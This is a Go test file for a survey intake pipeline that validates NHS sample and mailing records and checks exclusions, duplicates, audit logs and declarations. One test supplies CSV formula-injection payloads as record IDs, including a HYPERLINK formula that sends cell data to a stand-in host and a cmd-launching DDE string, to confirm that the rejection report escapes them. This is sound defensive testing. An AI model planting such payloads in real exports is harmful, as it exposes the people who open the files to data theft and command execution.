package intake

import (
	"context"
	"errors"
	"maps"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"icesurvey/audit"
	"icesurvey/lake"
	"icesurvey/pseudo"
	"icesurvey/schemas"
	"icesurvey/store"
)

// TestRecordChecks trips every record-level check and exclusion with one bad record
// among good ones, and checks its disposition, reason and report line.
func TestRecordChecks(t *testing.T) {
	const target = 2 // index of the record under test; its file row is target+2
	type mut func(s, m []row) ([]row, []row)
	setS := func(col, val string) mut {
		return func(s, m []row) ([]row, []row) { s[target][col] = val; return s, m }
	}
	setM := func(col, val string) mut {
		return func(s, m []row) ([]row, []row) { m[target][col] = val; return s, m }
	}
	both := func(a, b mut) mut {
		return func(s, m []row) ([]row, []row) { s, m = a(s, m); return b(s, m) }
	}
	tests := []struct {
		name        string
		mutate      mut
		disposition string // of the target sample row
		reason      string // its first reason
		field       string
		mailReason  string // expected first reason of a rejected mailing row, if any
	}{
		{"nhs check digit", setS("NHS_NUMBER", "9434765918"), "rejected", ReasonNHSNumberInvalid, "NHS_NUMBER", ""},
		{"nhs too short", setS("NHS_NUMBER", "94347659"), "rejected", ReasonNHSNumberInvalid, "NHS_NUMBER", ""},
		{"nhs placeholder", setS("NHS_NUMBER", "0000000000"), "rejected", ReasonNHSNumberInvalid, "NHS_NUMBER", ""},
		{"postcode invalid", both(setS("POSTCODE", "QQ1 1AA"), setM("POSTCODE", "QQ1 1AA")), "rejected", ReasonPostcodeInvalid, "POSTCODE", ReasonPostcodeInvalid},
		{"postcode missing", setS("POSTCODE", ""), "rejected", ReasonPostcodeInvalid, "POSTCODE", ""},
		{"postcode mismatch", setS("POSTCODE", "NR99 9ZZ"), "rejected", ReasonPostcodeMismatch, "POSTCODE", ""},
		{"postcode spacing is not a mismatch", setS("POSTCODE", " ip224lw "), "accepted", "", "", ""},
		{"dob not a date", setS("DATE_OF_BIRTH", "19401310"), "rejected", ReasonDOBInvalid, "DATE_OF_BIRTH", ""},
		{"dob iso format", setS("DATE_OF_BIRTH", "1940-03-10"), "rejected", ReasonDOBInvalid, "DATE_OF_BIRTH", ""},
		{"dob in future", setS("DATE_OF_BIRTH", "20260201"), "rejected", ReasonDOBInvalid, "DATE_OF_BIRTH", ""},
		// Calendar edges: a leap-day birth in a leap year is a date, in a common year not;
		// day-first, two-digit-year and 31 April are not yyyymmdd dates.
		{"dob 29 February in a leap year", setS("DATE_OF_BIRTH", "19400229"), "accepted", "", "", ""},
		{"dob 29 February in a common year", setS("DATE_OF_BIRTH", "19410229"), "rejected", ReasonDOBInvalid, "DATE_OF_BIRTH", ""},
		{"dob day first", setS("DATE_OF_BIRTH", "29/02/1940"), "rejected", ReasonDOBInvalid, "DATE_OF_BIRTH", ""},
		{"dob two-digit year", setS("DATE_OF_BIRTH", "400310"), "rejected", ReasonDOBInvalid, "DATE_OF_BIRTH", ""},
		{"dob 31 April", setS("DATE_OF_BIRTH", "19400431"), "rejected", ReasonDOBInvalid, "DATE_OF_BIRTH", ""},
		{"dob day after the sampling date", setS("DATE_OF_BIRTH", "20260116"), "rejected", ReasonDOBInvalid, "DATE_OF_BIRTH", ""},
		{"registration 29 February in a common year", setS("REGISTRATION_DATE", "20250229"), "rejected", ReasonRegistrationDateInvalid, "REGISTRATION_DATE", ""},
		{"age mismatch", setS("AGE", "80"), "rejected", ReasonAgeMismatch, "AGE", ""},
		{"age one year out is tolerated", setS("AGE", "84"), "accepted", "", "", ""},
		{"age not a number", setS("AGE", "eighty"), "rejected", ReasonAgeInvalid, "AGE", ""},
		{"gender", setS("GENDER", "M"), "rejected", ReasonGenderInvalid, "GENDER", ""},
		{"gender x lower case", setS("GENDER", "x"), "accepted", "", "", ""},
		{"ethnicity", setS("ETHNICITY", "Q"), "rejected", ReasonEthnicityInvalid, "ETHNICITY", ""},
		{"practice", setS("GP_PRACTICE_CODE", "D8200"), "rejected", ReasonPracticeInvalid, "GP_PRACTICE_CODE", ""},
		{"practice unknown", setS("GP_PRACTICE_CODE", "V81999"), "rejected", ReasonPracticeInvalid, "GP_PRACTICE_CODE", ""},
		{"ics other", setS("ICS_CODE", "QJK"), "rejected", ReasonICSMismatch, "ICS_CODE", ""},
		{"ics malformed", setS("ICS_CODE", "NORFOLK"), "rejected", ReasonICSInvalid, "ICS_CODE", ""},
		{"registration not a date", setS("REGISTRATION_DATE", "20100431"), "rejected", ReasonRegistrationDateInvalid, "REGISTRATION_DATE", ""},
		{"registration after sampling", setS("REGISTRATION_DATE", "20260116"), "rejected", ReasonRegistrationDateInvalid, "REGISTRATION_DATE", ""},
		{"registration before birth", setS("REGISTRATION_DATE", "19300101"), "rejected", ReasonRegistrationDateInvalid, "REGISTRATION_DATE", ""},
		{"efi above 1", setS("EFI_SCORE", "12"), "rejected", ReasonEFIOutOfRange, "EFI_SCORE", ""},
		{"efi negative", setS("EFI_SCORE", "-0.1"), "rejected", ReasonEFIOutOfRange, "EFI_SCORE", ""},
		{"efi not a number", setS("EFI_SCORE", "high"), "rejected", ReasonEFIInvalid, "EFI_SCORE", ""},
		{"efi NaN", setS("EFI_SCORE", "NaN"), "rejected", ReasonEFIInvalid, "EFI_SCORE", ""},
		{"flag invalid", setS("TYPE1_OPT_OUT", "maybe"), "rejected", ReasonFlagInvalid, "TYPE1_OPT_OUT", ""},
		{"record id missing", both(setS("RECORD_ID", ""), setM("RECORD_ID", "")), "rejected", ReasonRecordIDMissing, "RECORD_ID", ReasonRecordIDMissing},
		{"record id too long", setS("RECORD_ID", strings.Repeat("R", 65)), "rejected", ReasonRecordIDInvalid, "RECORD_ID", ReasonNoSampleRecord},
		{"last name missing", setM("LAST_NAME", ""), "rejected", ReasonMailingRecordInvalid, "RECORD_ID", ReasonNameMissing},
		{"address one line", setM("ADDRESS_2", ""), "rejected", ReasonMailingRecordInvalid, "RECORD_ID", ReasonAddressTooShort},
		{"address line 1 empty", both(setM("ADDRESS_1", ""), setM("ADDRESS_3", "Norfolk")), "rejected", ReasonMailingRecordInvalid, "RECORD_ID", ReasonAddressTooShort},
		{"address with line break", setM("ADDRESS_1", "1 High St\nNorwich"), "rejected", ReasonMailingRecordInvalid, "RECORD_ID", ReasonTextInvalid},
		{"last name too long", setM("LAST_NAME", strings.Repeat("x", 2000)), "rejected", ReasonMailingRecordInvalid, "RECORD_ID", ReasonFieldTooLong},
		{"address line 36 characters", setM("ADDRESS_2", strings.Repeat("x", 36)), "rejected", ReasonMailingRecordInvalid, "RECORD_ID", ReasonFieldTooLong},
		{"address line 35 characters", setM("ADDRESS_2", strings.Repeat("x", 35)), "accepted", "", "", ""},
		{"35 characters of 70 bytes", setM("FIRST_NAME", strings.Repeat("é", 35)), "accepted", "", "", ""},
		{"title too long", setM("TITLE", strings.Repeat("Dr ", 20)), "rejected", ReasonMailingRecordInvalid, "RECORD_ID", ReasonFieldTooLong},
		{"mailing postcode invalid", setM("POSTCODE", "NR1"), "rejected", ReasonMailingRecordInvalid, "RECORD_ID", ReasonPostcodeInvalid},
		{"no mailing record", setM("RECORD_ID", "OTHER"), "rejected", ReasonNoMailingRecord, "RECORD_ID", ReasonNoSampleRecord},
		{"bad mobile is not a rejection", setM("MOBILE", "01603 123456"), "accepted", "", "", ""},
		// Exclusions.
		{"frailty mild", setS("EFI_SCORE", "0.2"), "excluded", ExclFrailty, "EFI_SCORE", ""},
		{"frailty fit", setS("EFI_SCORE", "0.05"), "excluded", ExclFrailty, "EFI_SCORE", ""},
		{"frailty moderate boundary", setS("EFI_SCORE", "0.25"), "accepted", "", "", ""},
		{"under 18", both(setS("DATE_OF_BIRTH", "20080116"), setS("AGE", "17")), "excluded", ExclUnder18, "DATE_OF_BIRTH", ""},
		{"18 on the sampling date", both(setS("DATE_OF_BIRTH", "20080115"), setS("AGE", "18")), "accepted", "", "", ""},
		// Born on 29 February 2008: 18 on 1 March 2026 in a common year, so under 18 on
		// this sampling date (15 January 2026) either way.
		{"leap-day birth under 18", both(setS("DATE_OF_BIRTH", "20080229"), setS("AGE", "17")), "excluded", ExclUnder18, "DATE_OF_BIRTH", ""},
		{"registered the day after 6 months", setS("REGISTRATION_DATE", "20250716"), "excluded", ExclRegisteredUnder6M, "REGISTRATION_DATE", ""},
		{"registered 5 months", setS("REGISTRATION_DATE", "20250816"), "excluded", ExclRegisteredUnder6M, "REGISTRATION_DATE", ""},
		{"registered exactly 6 months", setS("REGISTRATION_DATE", "20250715"), "accepted", "", "", ""},
		{"type 1 opt-out", setS("TYPE1_OPT_OUT", "Y"), "excluded", ExclType1OptOut, "TYPE1_OPT_OUT", ""},
		{"dissent", setS("DISSENT", "y"), "excluded", ExclDissent, "DISSENT", ""},
		{"no UK address", both(setS("POSTCODE", "ZZ99 3VZ"), both(setM("POSTCODE", "ZZ99 3VZ"), setM("ADDRESS_1", ""))), "excluded", ExclNoUKAddress, "POSTCODE", ""},
		{"no UK address in mailing only", setM("POSTCODE", "ZZ99 3WZ"), "excluded", ExclNoUKAddress, "POSTCODE", ""},
		// No UK postal address: an address abroad is an exclusion, a UK address
		// without its postcode an error.
		{"abroad, no postcode in either file", both(setS("POSTCODE", ""), both(setM("POSTCODE", ""), setM("ADDRESS_3", "France"))), "excluded", ExclNoUKAddress, "POSTCODE", ""},
		{"abroad with a foreign postal code", both(setS("POSTCODE", "75001"), both(setM("POSTCODE", "75001"), both(setM("ADDRESS_2", "Paris"), setM("ADDRESS_3", "FRANCE")))), "excluded", ExclNoUKAddress, "POSTCODE", ""},
		{"abroad named in POSTCODE", both(setS("POSTCODE", ""), setM("POSTCODE", "Spain")), "excluded", ExclNoUKAddress, "POSTCODE", ""},
		{"abroad on one address line", both(setS("POSTCODE", ""), both(setM("POSTCODE", ""), both(setM("ADDRESS_1", "Republic of Ireland"), setM("ADDRESS_2", "")))), "excluded", ExclNoUKAddress, "POSTCODE", ""},
		{"abroad but the sample has a UK postcode", both(setM("POSTCODE", ""), setM("ADDRESS_3", "Australia")), "rejected", ReasonPostcodeMismatch, "POSTCODE", ""},
		{"UK address without a postcode", both(setS("POSTCODE", ""), setM("POSTCODE", "")), "rejected", ReasonPostcodeInvalid, "POSTCODE", ReasonPostcodeInvalid},
		{"UK address with a malformed postcode", both(setS("POSTCODE", "NR1 3Q"), both(setM("POSTCODE", "NR1 3Q"), setM("ADDRESS_3", "England"))), "rejected", ReasonPostcodeInvalid, "POSTCODE", ReasonPostcodeInvalid},
		{"a country not on the last line", both(setS("POSTCODE", ""), both(setM("POSTCODE", ""), both(setM("ADDRESS_1", "France"), setM("ADDRESS_2", "Norwich")))), "rejected", ReasonPostcodeInvalid, "POSTCODE", ReasonPostcodeInvalid},
		{"a Crown Dependency is not abroad", both(setS("POSTCODE", ""), both(setM("POSTCODE", ""), setM("ADDRESS_3", "Jersey"))), "rejected", ReasonPostcodeInvalid, "POSTCODE", ReasonPostcodeInvalid},
		{"abroad but also dissent: the first reason", both(setS("DISSENT", "Y"), both(setS("POSTCODE", ""), both(setM("POSTCODE", ""), setM("ADDRESS_3", "Canada")))), "excluded", ExclDissent, "DISSENT", ""},
		{"two exclusions: first reason counts", both(setS("EFI_SCORE", "0.1"), setS("DISSENT", "Y")), "excluded", ExclFrailty, "EFI_SCORE", ""},
		{"rejection beats exclusion", both(setS("EFI_SCORE", "0.1"), setS("GENDER", "7")), "rejected", ReasonGenderInvalid, "GENDER", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			st := newStore(t)
			s, m := goodRows(5)
			s, m = tt.mutate(s, m)
			res, err := runPair(t, st, s, m)
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			wantAccepted := 4
			if tt.disposition == "accepted" {
				wantAccepted = 5
			}
			if res.Accepted != wantAccepted || res.RowsRead != 5 {
				t.Fatalf("accepted %d of %d; want %d of 5 (by reason %v, mailing %v)", res.Accepted, res.RowsRead, wantAccepted, res.ByReason, res.MailingByReason)
			}
			lines := reportLines(t, st)
			var sampleLines []map[string]string
			for _, l := range lines {
				if l["file"] == "sample" {
					sampleLines = append(sampleLines, l)
				}
			}
			if tt.disposition == "accepted" {
				if len(sampleLines) != 0 {
					t.Fatalf("accepted record reported: %v", sampleLines)
				}
				return
			}
			if got := res.ByReason; !reflect.DeepEqual(got, map[string]int{tt.reason: 1}) {
				t.Errorf("ByReason = %v; want {%s: 1}", got, tt.reason)
			}
			if len(sampleLines) == 0 {
				t.Fatal("no report line for the sample record")
			}
			l := sampleLines[0]
			if l["row"] != strconv.Itoa(target+2) || l["reason_code"] != tt.reason || l["disposition"] != tt.disposition || l["field"] != tt.field {
				t.Errorf("report line %v; want row %d %s %s field %s", l, target+2, tt.reason, tt.disposition, tt.field)
			}
			if tt.disposition == "excluded" && (res.Excluded != 1 || res.Rejected != 0) {
				t.Errorf("excluded %d rejected %d", res.Excluded, res.Rejected)
			}
			if tt.mailReason != "" {
				if res.MailingByReason[tt.mailReason] != 1 {
					t.Errorf("MailingByReason = %v; want %s", res.MailingByReason, tt.mailReason)
				}
			}
		})
	}
}

// TestFieldTooLongReported checks that an over-long mailing field is reported with
// its file, row, field and reason, and that it reaches neither the contacts nor the
// report's message.
func TestFieldTooLongReported(t *testing.T) {
	st := newStore(t)
	s, m := goodRows(3)
	long := strings.Repeat("Lane", 250_000) // a million characters, as a tester sent
	m[1]["ADDRESS_1"] = long
	res, err := runPair(t, st, s, m)
	if err != nil {
		t.Fatal(err)
	}
	if res.Accepted != 2 || res.MailingByReason[ReasonFieldTooLong] != 1 {
		t.Fatalf("accepted %d, mailing by reason %v", res.Accepted, res.MailingByReason)
	}
	var found bool
	for _, l := range reportLines(t, st) {
		if l["file"] == "mailing" && l["reason_code"] == ReasonFieldTooLong {
			found = true
			if l["row"] != "3" || l["field"] != "ADDRESS_1" || l["record_id"] != "R00001" || strings.Contains(l["message"], "Lane") {
				t.Errorf("report line %v", l)
			}
		}
	}
	if !found {
		t.Error("no FIELD_TOO_LONG line in the report")
	}
	contacts, err := lake.GetRows[schemas.Contact](context.Background(), st, res.ContactsKey, schemas.ContactLayout())
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range contacts {
		if len(c.Address1) > 35 {
			t.Errorf("contact %s has an address line of %d bytes", c.ICSRecordID, len(c.Address1))
		}
	}
}

func TestMobileCounts(t *testing.T) {
	st := newStore(t)
	s, m := goodRows(4)
	m[0]["MOBILE"] = "01603 123456" // landline: unusable
	m[1]["MOBILE"] = ""             // none
	m[2]["MOBILE"] = "+44 (0)7700 900123"
	res, err := runPair(t, st, s, m)
	if err != nil {
		t.Fatal(err)
	}
	if res.Accepted != 4 || res.NoSMS != 2 || res.MobileUnusable != 1 || res.Declaration.WithMobile != 2 {
		t.Errorf("accepted %d noSMS %d unusable %d withMobile %d", res.Accepted, res.NoSMS, res.MobileUnusable, res.Declaration.WithMobile)
	}
	contacts, err := lake.GetRows[schemas.Contact](context.Background(), st, res.ContactsKey, schemas.ContactLayout())
	if err != nil {
		t.Fatal(err)
	}
	mob := map[string]string{}
	for _, c := range contacts {
		mob[c.ICSRecordID] = c.Mobile
	}
	if mob["R00000"] != "" || mob["R00001"] != "" || mob["R00002"] != "+447700900123" {
		t.Errorf("mobiles %v", mob)
	}
}

func TestDuplicates(t *testing.T) {
	t.Run("record id twice in sample", func(t *testing.T) {
		st := newStore(t)
		s, m := goodRows(5)
		s[3]["RECORD_ID"] = s[1]["RECORD_ID"]
		m = append(m[:3], m[4]) // R00003 has no sample record now
		res, err := runPair(t, st, s, m)
		if err != nil {
			t.Fatal(err)
		}
		if res.ByReason[ReasonRecordIDDuplicate] != 2 || res.Accepted != 3 {
			t.Errorf("ByReason %v accepted %d", res.ByReason, res.Accepted)
		}
		// The mailing record of the duplicated id joins rejected records.
		if res.MailingByReason[ReasonSampleRecordRejected] != 1 {
			t.Errorf("MailingByReason %v", res.MailingByReason)
		}
	})
	t.Run("nhs number twice", func(t *testing.T) {
		st := newStore(t)
		s, m := goodRows(5)
		s[4]["NHS_NUMBER"] = s[0]["NHS_NUMBER"]
		res, err := runPair(t, st, s, m)
		if err != nil {
			t.Fatal(err)
		}
		if res.ByReason[ReasonNHSNumberDuplicate] != 2 || res.Accepted != 3 {
			t.Errorf("ByReason %v accepted %d", res.ByReason, res.Accepted)
		}
		for _, l := range reportLines(t, st) {
			if l["reason_code"] == ReasonNHSNumberDuplicate {
				if strings.Contains(l["message"], s[0]["NHS_NUMBER"]) {
					t.Error("duplicate message repeats the NHS number")
				}
				if !strings.Contains(l["message"], "2, 6") && !strings.Contains(l["message"], "6, 2") {
					t.Errorf("message should name both rows: %q", l["message"])
				}
			}
		}
		// Only accepted records reach the outputs, once each.
		recs, err := lake.GetRows[schemas.SampleRecord](context.Background(), st, res.SampleParquetKey, schemas.SampleRecordLayout())
		if err != nil || len(recs) != 3 {
			t.Fatalf("sample parquet: %d rows, %v", len(recs), err)
		}
	})
	t.Run("record id twice in mailing", func(t *testing.T) {
		st := newStore(t)
		s, m := goodRows(4)
		extra := goodMailing(1)
		extra["ADDRESS_1"] = "2 Other Road"
		m = append(m, extra)
		res, err := runPair(t, st, s, m)
		if err != nil {
			t.Fatal(err)
		}
		if res.ByReason[ReasonMailingRecordDuplicate] != 1 || res.MailingByReason[ReasonRecordIDDuplicate] != 2 || res.Accepted != 3 {
			t.Errorf("ByReason %v MailingByReason %v accepted %d", res.ByReason, res.MailingByReason, res.Accepted)
		}
	})
}

func TestRoundTripAndReconciliation(t *testing.T) {
	st := newStore(t)
	s, m := goodRows(8)
	s[5]["EFI_SCORE"] = "0.1"          // excluded
	s[6]["GENDER"] = "7"               // rejected
	m = append(m, goodMailing(99))     // orphan mailing row
	m[3]["ADDRESS_2"] = "Flat 1, Mill" // comma: quoted by the CSV writer
	ctx, col := audit.WithCollector(context.Background())
	put(t, st, sampleKey, csvText(sampleHeader, s))
	put(t, st, mailingKey, csvText(mailingHeader, m))
	res, err := Run(ctx, st, testConfig(), Input{SampleKey: sampleKey, MailingKey: mailingKey})
	if err != nil {
		t.Fatal(err)
	}
	if res.RowsRead != 8 || res.Accepted != 6 || res.Excluded != 1 || res.Rejected != 1 {
		t.Errorf("sample counts %d = %d + %d + %d", res.RowsRead, res.Accepted, res.Excluded, res.Rejected)
	}
	if res.MailingRowsRead != 9 || res.MailingUsed != 6 || res.MailingExcluded != 1 || res.MailingRejected != 2 {
		t.Errorf("mailing counts %d = %d + %d + %d", res.MailingRowsRead, res.MailingUsed, res.MailingExcluded, res.MailingRejected)
	}
	if want := map[string]int{ReasonNoSampleRecord: 1, ReasonSampleRecordRejected: 1}; !maps.Equal(res.MailingByReason, want) {
		t.Errorf("MailingByReason %v", res.MailingByReason)
	}
	sum, _, err := store.SHA256(context.Background(), st, sampleKey)
	if err != nil || sum != res.SampleSHA256 {
		t.Errorf("sample sha %s != %s (%v)", res.SampleSHA256, sum, err)
	}

	// Analysis records.
	recs, err := lake.GetRows[schemas.SampleRecord](context.Background(), st, res.SampleParquetKey, schemas.SampleRecordLayout())
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 6 {
		t.Fatalf("%d analysis records", len(recs))
	}
	r0 := recs[0]
	want := schemas.SampleRecord{
		SurveyRecordID: pseudo.SurveyRecordID(testKey, "2026-P1", "QMM", "R00000"),
		WaveID:         "2026-P1", ICS: "QMM",
		NHSPseudonym:   pseudo.NHSPseudonym(testKey, s[0]["NHS_NUMBER"]),
		GPPracticeCode: "D82001", Age: 85, AgeBand: "85+", Gender: "1", Ethnicity: "A",
		EFIScore: 0.3, EFIBand: "moderate", RegistrationDate: r0.RegistrationDate, HasMobile: true, PostcodeDistrict: "NR1",
	}
	if r0 != want {
		t.Errorf("analysis record\n got %+v\nwant %+v", r0, want)
	}
	if got := r0.RegistrationDate.Format("20060102"); got != "20100401" {
		t.Errorf("registration date %s", got)
	}

	// Contacts.
	contacts, err := lake.GetRows[schemas.Contact](context.Background(), st, res.ContactsKey, schemas.ContactLayout())
	if err != nil {
		t.Fatal(err)
	}
	if len(contacts) != 6 {
		t.Fatalf("%d contacts", len(contacts))
	}
	var c3 schemas.Contact
	for _, c := range contacts {
		if c.ICSRecordID == "R00003" {
			c3 = c
		}
		if c.SurveyRecordID != pseudo.SurveyRecordID(testKey, "2026-P1", "QMM", c.ICSRecordID) ||
			c.AccessCode != pseudo.AccessCode(testKey, "2026-P1", "QMM", c.ICSRecordID) {
			t.Errorf("contact %s ids do not derive from the key", c.ICSRecordID)
		}
	}
	if c3.NHSNumber != s[3]["NHS_NUMBER"] || c3.Address2 != "Flat 1, Mill" || c3.Postcode != "NR30 1BH" ||
		c3.DateOfBirth.Format("20060102") != "19400310" || c3.Gender != "2" || c3.LastName != "Surname3" ||
		c3.Mobile != "+447700900003" || c3.ICS != "QMM" {
		t.Errorf("contact R00003 = %+v", c3)
	}

	// Report.
	lines := reportLines(t, st)
	if len(lines) != 3 || res.Findings != 3 {
		t.Errorf("report has %d lines (Findings %d): %v", len(lines), res.Findings, lines)
	}

	// Audit events, free of personal data.
	kinds := map[string]int{}
	for _, e := range col.Events() {
		kinds[e.Kind]++
		js := audit.DetailsJSON(e.Details)
		for _, r := range s {
			if strings.Contains(js, r["NHS_NUMBER"]) {
				t.Errorf("audit %s holds an NHS number", e.Kind)
			}
		}
	}
	for _, k := range []string{"intake.file_received", "intake.records_classified", "intake.reconciled", "intake.outputs_written"} {
		if kinds[k] == 0 {
			t.Errorf("no %s audit event (have %v)", k, kinds)
		}
	}
	if kinds["intake.file_received"] != 2 {
		t.Errorf("want 2 file_received events, have %d", kinds["intake.file_received"])
	}
}

func TestIdempotent(t *testing.T) {
	st := newStore(t)
	s, m := goodRows(20)
	s[3]["NHS_NUMBER"] = s[4]["NHS_NUMBER"] // force the second sample pass
	first, err := runPair(t, st, s, m)
	if err != nil {
		t.Fatal(err)
	}
	second, err := Run(context.Background(), st, testConfig(), Input{SampleKey: sampleKey, MailingKey: mailingKey})
	if err != nil {
		t.Fatal(err)
	}
	if first.SampleParquetSHA256 != second.SampleParquetSHA256 || first.ContactsSHA256 != second.ContactsSHA256 ||
		first.ReportSHA256 != second.ReportSHA256 {
		t.Error("a retried intake must write identical outputs")
	}
	for _, k := range []string{first.SampleParquetKey, first.ContactsKey, first.ReportKey} {
		sum, _, err := store.SHA256(context.Background(), st, k)
		if err != nil {
			t.Fatal(err)
		}
		if sum != map[string]string{first.SampleParquetKey: first.SampleParquetSHA256, first.ContactsKey: first.ContactsSHA256,
			first.ReportKey: first.ReportSHA256}[k] {
			t.Errorf("stored %s differs from the reported digest", k)
		}
	}
	if !reflect.DeepEqual(first.Declaration, second.Declaration) {
		t.Error("declarations differ")
	}
}

func TestReportHoldsNoPersonalData(t *testing.T) {
	st := newStore(t)
	s, m := goodRows(6)
	for i := range s {
		s[i]["GENDER"] = "bad"                    // every row rejected
		m[i]["ADDRESS_2"] = ""                    // and every mailing row
		m[i]["LAST_NAME"] = ""                    //
		s[i]["POSTCODE"] = "NR" + strconv.Itoa(i) // mismatching postcodes are not repeated either
	}
	s[0]["NHS_NUMBER"] = "9434765918"
	if _, err := runPair(t, st, s, m); err != nil {
		t.Fatal(err)
	}
	b, _ := store.ReadAll(context.Background(), st, reportKey)
	text := string(b)
	for i := range s {
		for _, v := range []string{s[i]["NHS_NUMBER"], m[i]["ADDRESS_1"], testPostcodes[i%len(testPostcodes)], "Surname", "07700"} {
			if strings.Contains(text, v) {
				t.Errorf("report repeats %q", v)
			}
		}
	}
}

func TestDeclarationAndShortfall(t *testing.T) {
	st := newStore(t)
	s, m := goodRows(7)
	s[0]["EFI_SCORE"] = "0.5"                             // severe
	s[1]["DATE_OF_BIRTH"], s[1]["AGE"] = "19600101", "66" // 65-74
	s[2]["GP_PRACTICE_CODE"] = "D82099"                   // a practice of one
	s[3]["EFI_SCORE"] = "0.1"                             // excluded
	put(t, st, sampleKey, csvText(sampleHeader, s))
	put(t, st, mailingKey, csvText(mailingHeader, m))
	cfg := testConfig()
	cfg.MinEligible = 10
	res, err := Run(context.Background(), st, cfg, Input{SampleKey: sampleKey, MailingKey: mailingKey})
	if err != nil {
		t.Fatal(err)
	}
	d := res.Declaration
	if res.Shortfall != 4 || d.Shortfall != 4 || d.MeetsTarget || d.Eligible != 6 {
		t.Errorf("shortfall %d / %d, eligible %d", res.Shortfall, d.Shortfall, d.Eligible)
	}
	found := false
	for _, w := range res.Warnings {
		found = found || strings.Contains(w, "short")
	}
	if !found {
		t.Errorf("no shortfall warning in %v", res.Warnings)
	}
	// Accepted: rows 0,1,2,4,5,6. Practices: D82001 (0,4,6), D82002 (1,5), D82099 (2).
	if d.Practices != 3 || d.SmallestPractice != (PracticeCount{"D82099", 1}) || d.LargestPractice != (PracticeCount{"D82001", 3}) {
		t.Errorf("practices %d smallest %v largest %v", d.Practices, d.SmallestPractice, d.LargestPractice)
	}
	if d.ByAgeBand["65-74"] != 1 || d.ByAgeBand["85+"] != 5 || d.ByAgeBand["18-64"] != 0 {
		t.Errorf("by age band %v", d.ByAgeBand)
	}
	if d.ByEFIBand["severe"] != 1 || d.ByEFIBand["moderate"] != 5 || d.ByEFIBand["mild"] != 0 {
		t.Errorf("by eFI band %v", d.ByEFIBand)
	}
	if d.ByGender["1"] != 4 || d.ByGender["2"] != 2 {
		t.Errorf("by gender %v", d.ByGender)
	}
	// Ethnicity cycles A, H, 99 over rows 0..6: accepted 0(A) 1(H) 2(99) 4(H) 5(99) 6(A).
	if d.ByEthnicity["A"] != 2 || d.ByEthnicity["H"] != 2 || d.ByEthnicity["99"] != 2 || len(d.ByEthnicity) != 18 {
		t.Errorf("by ethnicity %v", d.ByEthnicity)
	}
	if d.ExcludedByReason[ExclFrailty] != 1 || len(d.RejectedByReason) != 0 {
		t.Errorf("excluded %v rejected %v", d.ExcludedByReason, d.RejectedByReason)
	}
}

func TestConfigAndStoreErrors(t *testing.T) {
	st := newStore(t)
	in := Input{SampleKey: sampleKey, MailingKey: mailingKey}
	for name, mutate := range map[string]func(*Config){
		"no wave":       func(c *Config) { c.WaveID = "" },
		"bad ics":       func(c *Config) { c.ICS = "Norfolk" },
		"no date":       func(c *Config) { c.SamplingDate = time.Time{} },
		"short key":     func(c *Config) { c.PseudonymKey = []byte("short") },
		"negative min":  func(c *Config) { c.MinEligible = -1 },
		"wave with ../": func(c *Config) { c.WaveID = "../x" },
	} {
		cfg := testConfig()
		mutate(&cfg)
		if _, err := Run(context.Background(), st, cfg, in); !errors.Is(err, ErrInvalidConfig) {
			t.Errorf("%s: err = %v; want ErrInvalidConfig", name, err)
		}
	}
	// A missing object is a store error: wrapped, and not a FileError.
	_, err := Run(context.Background(), st, testConfig(), in)
	if !errors.Is(err, store.ErrNotExist) || IsFileError(err) {
		t.Errorf("missing file: %v", err)
	}
}

// TestAbroadCountedOnTheDeclaration: people whose address is abroad are excluded as
// having no UK postal address, on the declaration and in the report, and their
// mailing rows are set aside as excluded, not rejected.
func TestAbroadCountedOnTheDeclaration(t *testing.T) {
	st := newStore(t)
	s, m := goodRows(6)
	for _, i := range []int{1, 4} {
		s[i]["POSTCODE"], m[i]["POSTCODE"] = "", ""
		m[i]["ADDRESS_2"], m[i]["ADDRESS_3"] = "Málaga", "España"
	}
	s[5]["POSTCODE"], m[5]["POSTCODE"] = "ZZ99 3VZ", "ZZ99 3VZ"
	res, err := runPair(t, st, s, m)
	if err != nil {
		t.Fatal(err)
	}
	d := res.Declaration
	if res.Accepted != 3 || res.Excluded != 3 || res.Rejected != 0 || res.ByReason[ExclNoUKAddress] != 3 ||
		d.ExcludedByReason[ExclNoUKAddress] != 3 || d.Excluded != 3 || len(d.RejectedByReason) != 0 {
		t.Fatalf("accepted %d excluded %d rejected %d, by reason %v, declaration %+v", res.Accepted, res.Excluded, res.Rejected, res.ByReason, d)
	}
	if res.MailingExcluded != 3 || res.MailingRejected != 0 || res.MailingUsed != 3 {
		t.Errorf("mailing used %d excluded %d rejected %d", res.MailingUsed, res.MailingExcluded, res.MailingRejected)
	}
	n := 0
	for _, l := range reportLines(t, st) {
		if l["reason_code"] != ExclNoUKAddress {
			t.Errorf("report line %v", l)
			continue
		}
		n++
		if l["disposition"] != "excluded" || l["field"] != "POSTCODE" || strings.Contains(l["message"], "Espa") || strings.Contains(l["message"], "laga") {
			t.Errorf("report line %v", l)
		}
	}
	if n != 3 {
		t.Errorf("%d report lines, want 3", n)
	}
}

// The rejection report goes back to the ICS, whose people open it in a spreadsheet. A
// RECORD_ID is the ICS's text, repeated as read: one that a spreadsheet would run as a
// formula is written with an apostrophe in front, so it shows as the text it is.
func TestReportRecordIDIsNeverAFormula(t *testing.T) {
	st := newStore(t)
	s, m := goodRows(5)
	ids := []string{`=HYPERLINK("http://x.example/?"&A1,"fix")`, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "-12"}
	for i, id := range ids {
		s[i]["RECORD_ID"], m[i]["RECORD_ID"] = id, id
		s[i]["GENDER"] = "bad" // rejected: on the report with its RECORD_ID
	}
	if _, err := runPair(t, st, s, m); err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, l := range reportLines(t, st) {
		got[l["record_id"]] = true
		for col, v := range l {
			if v != "" && (v[0] == '=' || v[0] == '+' || v[0] == '@' || v[0] == '-' && v != "-12") {
				t.Errorf("report line %v: %s %q starts a formula", l, col, v)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://x.example/?"&A1,"fix")`, "'+1+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3", "-12"} {
		if !got[want] {
			t.Errorf("report has no record_id %q (has %v)", want, got)
		}
	}
}

// TestDeclarationNamesEveryICS: the signed sample declaration names the ICS by the one
// table of England's 42 boards (schemas.ICSNames), so a phase-2 ICS's declaration names
// it too, not only the eight of phase 1.
